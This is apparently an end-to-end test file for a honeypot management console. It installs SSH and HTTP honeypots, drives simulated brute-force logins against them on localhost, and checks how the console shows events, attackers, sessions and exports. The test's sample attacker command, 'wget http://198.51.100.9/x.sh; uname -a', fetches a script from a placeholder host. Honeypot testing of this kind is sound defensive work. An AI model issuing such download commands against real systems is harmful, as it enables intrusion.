/**
 * The operator's console in a real browser (Debian's chromium through playwright-core) against
 * a real Core and node: honeypots installed from the node's page, attacked by OpenSSH and curl,
 * and every page checked for what it shows; a command sent from /nodes reaches the node.
 */
import { expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { EventStreamClient, getJson, startTestCore, until } from "../helpers";
import { stringify } from "../../src/protocol/json";
import { httpAttack, launchBrowser, sshAttack, sshShell, startSystem } from "../helpers/console";
import { sha256 } from "../../src/core/auth";
import { consoleBundle } from "../../src/modules/console/build";

async function portOpen(port: number): Promise<boolean> {
  try {
    const s = await Bun.connect({ hostname: "127.0.0.1", port, socket: { data() {} } });
    s.end();
    return true;
  } catch {
    return false;
  }
}

test("install from /nodes, attack, and see it on every page; a command from /nodes reaches the node", async () => {
  await using sys = await startSystem();
  const { core, nodeId, ports } = sys;
  await using browser = await launchBrowser();
  const context = await browser.newContext({ viewport: { width: 1366, height: 768 }, acceptDownloads: true });
  context.setDefaultTimeout(30_000);
  // Air-gapped networks: the console asks nothing of any host but Core.
  const foreign: string[] = [];
  context.on("request", (r) => {
    if (!r.url().startsWith(core.api + "/") && !r.url().startsWith(core.api.replace("http:", "ws:") + "/") && !r.url().startsWith("blob:")) foreign.push(r.url());
  });
  const page = await context.newPage();
  const errors: string[] = [];
  page.on("pageerror", (e) => errors.push(String(e)));

  // /nodes lists the node; its page installs both built-in kinds with the manifest's settings.
  await page.goto(core.api + "/nodes");
  await page.getByRole("link", { name: "sensor-1" }).click();
  await page.waitForURL(`${core.api}/nodes/${nodeId}`);
  const install = async (kind: string, potId: string, settings: Record<string, string>) => {
    await page.selectOption("select[name=kind]", kind);
    await page.fill("input[name=pot_id]", potId);
    for (const [k, v] of Object.entries(settings)) await page.fill(`input[name=${k}]`, v);
    await page.getByRole("button", { name: "Install" }).click();
    await page.getByTestId("pots").locator(`tr[data-pot="${potId}"] .badge`, { hasText: "Running" }).waitFor();
  };
  await install("cowrie", "ssh-01", { ssh_port: String(ports.ssh), telnet_port: String(ports.telnet), hostname: "db-prod-2" });
  await install("honnypotter", "web-01", { http_port: String(ports.http) });
  await page.locator('tr[data-command="InstallPot"] .badge', { hasText: "succeeded" }).first().waitFor();
  expect(await page.locator('tr[data-command="InstallPot"]').count()).toBe(2);
  // The form sent only what differs from the manifest's defaults.
  const installs = (await getJson(`${core.api}/api/v1/commands?node_id=${nodeId}&command=InstallPot`)).body.commands;
  expect(installs.map((c: any) => c.body.InstallPot).reverse()).toEqual([
    { pot_id: "ssh-01", honeypot_type: "cowrie", config: { ssh_port: String(ports.ssh), telnet_port: String(ports.telnet), hostname: "db-prod-2" }, auto_start: true },
    { pot_id: "web-01", honeypot_type: "honnypotter", config: { http_port: String(ports.http) }, auto_start: true },
  ]);

  // /live shows the attack as it happens.
  const live = await context.newPage();
  await live.goto(core.api + "/live");
  await live.locator(".dot.open").waitFor();
  expect((await sshAttack(ports.ssh, "root", "123456", "wget http://198.51.100.9/x.sh; uname -a")).code).toBe(0);
  expect((await sshAttack(ports.ssh, "admin", "not-the-password")).code).toBe(255);
  expect((await httpAttack(ports.http, "admin", "hunter2")).out).toBe("200");
  const rows = live.getByTestId("live-events");
  await rows.getByText("root / 123456").waitFor();
  await rows.getByText("wget http://198.51.100.9/x.sh; uname -a").waitFor();
  await rows.getByText("admin / hunter2").waitFor();
  await expect(rows.locator("tr", { hasText: "admin / hunter2" }).locator("td").nth(3).textContent()).resolves.toBe("honnypotter.login.failed");
  // Pause holds the table still while events keep coming; resume shows them.
  await live.getByRole("button", { name: "Pause" }).click();
  await httpAttack(ports.http, "paused", "while-paused");
  await live.getByText(/paused, 1 arrived since/).waitFor();
  expect(await rows.getByText("paused / while-paused").count()).toBe(0);
  await live.getByRole("button", { name: "Resume" }).click();
  await rows.getByText("paused / while-paused").waitFor();
  await live.close();

  // A command from the node's page reaches the node: Stop closes the SSH port, Start opens it.
  await page.getByRole("button", { name: "Stop ssh-01", exact: true }).click();
  await page.getByTestId("pots").locator('tr[data-pot="ssh-01"] .badge', { hasText: "Stopped" }).waitFor();
  await page.locator('tr[data-command="StopPot"] .badge', { hasText: "succeeded" }).waitFor();
  expect(await portOpen(ports.ssh)).toBe(false);
  await page.getByRole("button", { name: "Start ssh-01", exact: true }).click();
  await page.getByTestId("pots").locator('tr[data-pot="ssh-01"] .badge', { hasText: "Running" }).waitFor();
  expect(await portOpen(ports.ssh)).toBe(true);
  // The command's record, with the node's answer.
  await page.locator('tr[data-command="StopPot"]').getByRole("button").click();
  await page.locator("pre.json", { hasText: '"StopPot": "ssh-01"' }).waitFor();

  // /events: filtered by address through the URL, an event's JSON, the filter exported. The
  // honeypots may still be storing events of this address (sessions closing), so each export
  // is compared with what was stored up to its newest event.
  const storedNow = async () => (await getJson(`${core.api}/api/v1/events?src_ip=127.0.0.1&limit=1000`)).body.events as any[];
  const upTo = (events: any[], ids: number[]) => events.map((e) => e.id as number).filter((id) => id <= Math.max(...ids));
  await page.goto(core.api + "/events?event_type=cowrie.login.failed");
  const table = page.getByTestId("events");
  await table.getByText("admin / not-the-password").waitFor();
  expect(await table.locator("tbody tr").count()).toBe(1);
  await table.getByRole("button").first().click();
  await page.locator("pre.json", { hasText: '"password": "not-the-password"' }).waitFor();
  await page.getByRole("button", { name: "last 1h" }).click();
  await page.waitForURL(`${core.api}/events?event_type=cowrie.login.failed&since=1h`);
  await table.getByText("admin / not-the-password").waitFor();
  await page.goto(core.api + "/events?src_ip=127.0.0.1");
  await table.getByText("paused / while-paused").waitFor();
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export NDJSON" }).click()]);
  const lines = readFileSync(await download.path(), "utf8").trim().split("\n");
  const exported = lines.map((l) => JSON.parse(l).id as number);
  const stored = await storedNow();
  expect(exported).toEqual(upTo(stored, exported));
  // node_id keeps all 64 bits in the export.
  expect(lines[0]).toContain(`"node_id":${nodeId}`);
  const [csv] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV" }).click()]);
  const csvText = readFileSync(await csv.path(), "utf8");
  expect(csvText.split("\r\n")[0]).toBe("id,timestamp,node_id,pot_id,pot_type,event_type,src_ip,data");
  const csvIds = csvText.trim().split("\r\n").slice(1).map((row) => Number(/^"?(\d+)"?,/.exec(row)?.[1]));
  expect(csvIds).toEqual(upTo(await storedNow(), csvIds));

  // /attackers/{ip}: every credential and command from the address, first and last seen.
  await page.getByRole("link", { name: "127.0.0.1" }).first().click();
  await page.waitForURL(`${core.api}/attackers/127.0.0.1`);
  const creds = page.getByTestId("credentials");
  for (const c of ["root / 123456", "admin / not-the-password", "admin / hunter2", "paused / while-paused"]) await creds.getByText(c, { exact: true }).waitFor();
  await page.getByTestId("commands").getByText("wget http://198.51.100.9/x.sh; uname -a").waitFor();
  await page.locator("#downloads").getByText("http://198.51.100.9/x.sh").waitFor();
  // Its sessions, from the sessions API: the login that worked among them.
  await page.locator("#sessions").getByTestId("sessions").getByText("root / 123456").waitFor();
  const facts = await page.getByTestId("attacker-facts").textContent();
  expect(facts).toContain(`First seen${stored.at(-1).timestamp.replace("T", " ").replace(/\.\d+Z$/, "Z")}`);
  const shown = (e: any) => e.timestamp.replace("T", " ").replace(/\.\d+Z$/, "Z");
  // The newest event when the page was read: one of those stored by now.
  expect((await storedNow()).some((e) => facts?.includes(`Last seen${shown(e)}`))).toBe(true);

  // Drill-down (issue 34, 5): each kind of value in a table leads to the events it filters.
  // Usernames, passwords and commands are matched by the events page itself; every row it shows has them.
  const cells = (column: number) => table.locator(`tbody tr td:nth-child(${column})`).allTextContents();
  const drill = async (link: ReturnType<typeof page.getByRole>, url: string | RegExp, rowText: string) => {
    await link.click();
    await page.waitForURL(typeof url === "string" ? core.api + url : url);
    await table.getByText(rowText, { exact: true }).first().waitFor();
  };
  await drill(creds.getByRole("link", { name: "root", exact: true }), "/events?username=root", "root / 123456");
  expect(new Set(await cells(5))).toEqual(new Set(["root / 123456"]));
  await page.getByTestId("filter-summary").getByText(/events read to find these/).waitFor();
  // Its export holds the same matches: the stored events with that username.
  const [matched] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export NDJSON" }).click()]);
  const rootIds = (await storedNow()).filter((e) => e.data.username === "root").map((e) => e.id);
  expect(readFileSync(await matched.path(), "utf8").trim().split("\n").map((l) => JSON.parse(l).id)).toEqual(rootIds);
  await page.goBack();
  await drill(creds.getByRole("link", { name: "hunter2", exact: true }), "/events?password=hunter2", "admin / hunter2");
  expect(await cells(4)).toEqual(["honnypotter.login.failed"]);
  await page.goBack();
  await drill(page.getByTestId("commands").getByRole("link", { name: "wget http://198.51.100.9/x.sh; uname -a" }), `/events?${new URLSearchParams({ command: "wget http://198.51.100.9/x.sh; uname -a" })}`, "wget http://198.51.100.9/x.sh; uname -a");
  expect(await cells(4)).toEqual(["cowrie.command.input"]);
  await page.goBack();
  // On an attacker's page, its event types and honeypots lead to its own events of them.
  await drill(page.getByTestId("attacker-events").getByRole("link", { name: "honnypotter.login.failed" }).first(), "/events?src_ip=127.0.0.1&event_type=honnypotter.login.failed", "honnypotter.login.failed");
  expect(new Set(await cells(2))).toEqual(new Set(["127.0.0.1"]));
  // An events row's honeypot leads to that pot's events on its node; its event type to all of that type.
  await drill(table.getByRole("link", { name: "web-01" }).first(), `/events?node_id=${nodeId}&pot_id=web-01`, "honnypotter.login.failed");
  expect(new Set(await cells(3))).toEqual(new Set(["web-01"]));
  await drill(table.getByRole("link", { name: "honnypotter.login.failed" }).first(), "/events?event_type=honnypotter.login.failed", "admin / hunter2");
  // /nodes: a pot's events by the node's name (REST resolves it), its kind's events.
  await page.goto(core.api + "/nodes");
  await drill(page.getByTestId("nodes").getByRole("link", { name: "ssh-01" }), "/events?node_id=sensor-1&pot_id=ssh-01", "root / 123456");
  expect(new Set(await cells(3))).toEqual(new Set(["ssh-01"]));
  await page.goto(core.api + "/nodes");
  await drill(page.getByTestId("nodes").getByRole("link", { name: "honnypotter" }), "/events?pot_type=honnypotter", "admin / hunter2");
  await page.goto(core.api + "/nodes");
  await drill(page.getByTestId("nodes").getByRole("link", { name: "events", exact: true }), "/events?node_id=sensor-1", "root / 123456");

  // / Overview: totals, top lists, health; a reload of a console URL lands on the same page.
  await page.goto(core.api + "/");
  await page.getByTestId("top-usernames").getByText("root").waitFor();
  await page.getByTestId("top-passwords").getByText("123456").waitFor();
  await page.getByTestId("top-ips").getByRole("link", { name: "127.0.0.1" }).waitFor();
  await page.locator("#top-commands").getByText("wget http://198.51.100.9/x.sh; uname -a").waitFor();
  await page.getByTestId("health").getByText("sensor-1").waitFor();
  // Every event of this test is in the last hour (the node's own node.* events too).
  const all = (await getJson(`${core.api}/api/v1/events?limit=1000`)).body.events.length;
  await page.getByTestId("last-hour").getByText(String(all), { exact: true }).waitFor();
  await page.reload();
  await page.getByTestId("top-usernames").getByText("root").waitFor();
  // Top usernames, passwords and commands lead to the events that have them.
  await drill(page.getByTestId("top-usernames").getByRole("link", { name: "admin", exact: true }), /\/events\?(.*&)?username=admin$/, "admin / not-the-password");
  expect(new Set((await cells(5)).map((t) => t.split(" / ")[0]))).toEqual(new Set(["admin"]));
  await page.goBack();
  await drill(page.getByTestId("top-passwords").getByRole("link", { name: "not-the-password" }), /\/events\?(.*&)?password=not-the-password$/, "admin / not-the-password");
  await page.goBack();
  await drill(page.locator("#top-commands").getByRole("link", { name: "wget http://198.51.100.9/x.sh; uname -a" }), /\/events\?(.*&)?command=wget/, "wget http://198.51.100.9/x.sh; uname -a");
  await page.goBack();
  // The SSH clients of the test's sessions by HASSH (the built-in cowrie's cowrie.client.kex): a link to their key exchanges.
  await page.getByTestId("top-hassh").getByRole("link").first().click();
  await page.waitForURL(/\/events\?hassh=[0-9a-f]{32}$/);
  await page.getByTestId("events").getByText("cowrie.client.kex").first().waitFor();
  // A key exchange's HASSH in an events row leads to the same filter.
  const hassh = new URL(page.url()).searchParams.get("hassh")!;
  await table.getByRole("link", { name: hassh }).first().click();
  await page.waitForURL(`${core.api}/events?hassh=${hassh}`);
  await table.getByText("cowrie.client.kex").first().waitFor();

  // Pages whose API this Core lacks say so; settings explain the roles.
  // Sessions and GeoIP exist on this Core: the test's SSH sessions are listed; the map pages
  // show the country and network tables (loopback has neither) with the data's credit.
  // /sessions lists an SSH shell session with its commands; its page shows the credentials,
  // the commands (one the shell does not know, marked) and plays the terminal recording.
  expect((await sshShell(ports.ssh, "root", "123456", ["frobnicate", "echo honeybee-was-here"])).code).toBe(0);
  const shell = (await until(async () => {
    const s = (await getJson(`${core.api}/api/v1/sessions?login_success=true&has_commands=true`)).body.sessions as any[];
    const recorded = s.find((x) => x.recording);
    return recorded && (await getJson(`${core.api}/api/v1/sessions/${recorded.id}`)).body.recording_file?.received ? recorded : null;
  }, "the SSH shell's recording on Core"))!;
  await page.goto(core.api + "/sessions?login_success=true");
  const sessionRow = page.getByTestId("sessions").locator(`tr[data-session="${shell.session}"]`);
  await sessionRow.getByText("root / 123456").waitFor();
  // The exec session of the /live check and this shell: both logged in.
  expect(await page.getByTestId("sessions").locator("tbody tr").count()).toBe(2);
  expect(await sessionRow.locator("td").allTextContents()).toEqual([expect.any(String), "127.0.0.1", "ssh-01", "root / 123456", "3", "0", expect.stringMatching(/ s$/), "yes", shell.session]);
  // A session's honeypot leads to its events on its node.
  expect(await sessionRow.getByRole("link", { name: "ssh-01" }).getAttribute("href")).toBe(`/events?node_id=${nodeId}&pot_id=ssh-01`);
  await sessionRow.getByRole("link", { name: shell.session }).click();
  await page.waitForURL(`${core.api}/sessions/${shell.id}`);
  await page.getByTestId("credentials").getByText("root / 123456").waitFor();
  const commands = page.getByTestId("commands");
  await commands.locator("li", { hasText: "echo honeybee-was-here" }).waitFor();
  expect(await commands.locator("li").allTextContents()).toEqual(["frobnicatenot found", "echo honeybee-was-here", "exit"]);
  expect(await commands.getByRole("link", { name: "frobnicate" }).getAttribute("href")).toBe("/events?command=frobnicate");
  expect(await page.getByTestId("session-events").getByRole("link", { name: "cowrie.command.failed" }).getAttribute("href")).toBe("/events?src_ip=127.0.0.1&event_type=cowrie.command.failed");
  await page.getByTestId("session-events").getByText("cowrie.log.closed").waitFor();
  // The player: asciinema-player's element; played, its terminal shows what was typed.
  const player = page.getByTestId("player").locator(".ap-player");
  await player.waitFor();
  await player.click();
  await page.getByTestId("player").locator(".ap-term", { hasText: "honeybee-was-here" }).waitFor();
  await page.goto(core.api + "/sessions");
  await page.getByTestId("sessions").locator("tbody tr").first().waitFor();
  await page.goto(core.api + "/map");
  await page.getByTestId("countries").waitFor();
  await page.getByTestId("geo-credit").getByText("Countries: ").waitFor();
  await page.goto(core.api + "/settings");
  // Outputs and rules exist on this Core: their tables (none yet) are shown.
  await page.getByTestId("outputs").getByText("No outputs yet.").waitFor();
  await page.getByTestId("rules").getByText("No alert rules yet.").waitFor();
  await page.getByTestId("whoami").getByText("checks no API tokens").waitFor();

  // Keyboard: the skip link and the navigation are reachable with Tab.
  await page.keyboard.press("Tab");
  expect(await page.evaluate("document.activeElement?.textContent")).toBe("Skip to content");

  expect(foreign).toEqual([]);
  expect(errors).toEqual([]);
  await context.close();
}, 90_000);

test("with tokens: sign in; the page loads without one, a read token sees no command controls", async () => {
  const tokens = [
    { name: "alice", role: "operator" as const, sha256: sha256("op-token-1") },
    { name: "rita", role: "read" as const, sha256: sha256("read-token-1") },
  ];
  await using core = await startTestCore({ tokens });
  // The page and its scripts carry no data: served without a token; the API still asks for one.
  const html = await fetch(core.api + "/nodes");
  expect(html.status).toBe(200);
  expect(html.headers.get("content-security-policy")).toContain("default-src 'self'");
  expect((await getJson(core.api + "/api/v1/nodes")).status).toBe(401);

  await using browser = await launchBrowser();
  const page = await browser.newPage();
  await page.goto(core.api + "/settings");
  await page.fill("#token", "wrong");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("alert").getByText("the API token is not valid").waitFor();
  await page.fill("#token", "read-token-1");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByTestId("whoami").getByText("Signed in as rita with role read.").waitFor();
  expect(await page.evaluate("sessionStorage.getItem('honeybee.token')")).toBe("read-token-1");
  expect(await page.evaluate("localStorage.getItem('honeybee.token')")).toBeNull();
  // The live feed takes the same token.
  await page.goto(core.api + "/live");
  await page.locator(".dot.open").waitFor();
  // A read token: a node page without Install or Start.
  const node = await (await import("../helpers")).registerNode(core);
  try {
    await page.goto(core.api + "/nodes/18446744073709551557");
    await page.getByText("Your token has role read: commands need an operator token.").waitFor();
    expect(await page.getByRole("button", { name: "Install" }).count()).toBe(0);
    // Sign out forgets the token; an operator token gets the controls.
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.fill("#token", "op-token-1");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("button", { name: "Install" }).waitFor();
  } finally {
    node.socket.end();
  }
}, 60_000);

test("the first load is under 300 KB compressed, and every console URL serves the page", async () => {
  const b = await consoleBundle();
  expect(b.firstLoadGzipBytes).toBeLessThan(300 * 1024);
  await using core = await startTestCore();
  for (const path of ["/", "/live", "/events", "/sessions", "/sessions/abc", "/map", "/nodes", "/nodes/42", "/attackers/203.0.113.7", "/settings"]) {
    const res = await fetch(core.api + path, { headers: { "accept-encoding": "gzip" } });
    expect([path, res.status, res.headers.get("content-type")]).toEqual([path, 200, "text/html; charset=utf-8"]);
    expect(await res.text()).toContain('<div id="app">');
  }
  // Whatever the page loads is one of the bundle's files, named by content, cached for good.
  const html = new TextDecoder().decode(b.index.body);
  for (const [, src] of html.matchAll(/(?:src|href)="(\/console\/[^"]+)"/g)) {
    const res = await fetch(core.api + src);
    expect(res.status).toBe(200);
    expect(res.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
  }
  // A favicon (an SVG hexagon with a bee), one of those files.
  const icon = html.match(/<link rel="icon" type="image\/svg\+xml" href="(\/console\/favicon-[^"]+\.svg)">/)?.[1];
  expect(icon).toBeDefined();
  const res = await fetch(core.api + icon);
  expect([res.status, res.headers.get("content-type")?.split(";")[0], (await res.text()).startsWith("<svg")]).toEqual([200, "image/svg+xml", true]);
  // Other paths keep their JSON 404.
  expect((await getJson(core.api + "/console/nope.js")).body).toEqual({ error: { code: "not_found", message: "no console file nope.js" } });
  expect((await getJson(core.api + "/nodes/1/2")).status).toBe(404);
  expect((await getJson(core.api + "/swagger")).status).toBe(200);
});

test("/live keeps the newest events only, and holds still while the operator scrolls down to read", async () => {
  await using core = await startTestCore();
  await using browser = await launchBrowser();
  const page = await browser.newPage({ viewport: { width: 1366, height: 768 } });
  await page.goto(core.api + "/live");
  await page.locator(".dot.open").waitFor();
  using c = await EventStreamClient.connect(core.ports.event, { acks: true });
  const send = async (from: number, n: number) => {
    c.send(Array.from({ length: n }, (_, i) => stringify({ eventid: "test.event", src_ip: "198.51.100.1", message: `m${from + i}` })));
    await c.ack(from + n);
  };
  await send(0, 1200);
  await page.getByText("m1199", { exact: true }).waitFor();
  await page.getByText("1000 kept (newest 1000)").waitFor();
  const table = page.locator(".live-table");
  await table.evaluate((el) => el.scrollTo({ top: 400 }));
  const firstRow = () => page.locator(".live-table tbody tr:not(.spacer-row)").first().textContent();
  await page.getByText(/0 newer: back to the top/).waitFor();
  const before = await firstRow();
  await send(1200, 50);
  await page.getByText("↑ 50 newer: back to the top to follow").waitFor();
  expect(await firstRow()).toBe(before);
  await page.getByText("↑ 50 newer: back to the top to follow").click();
  await page.getByText("m1249", { exact: true }).waitFor();
});
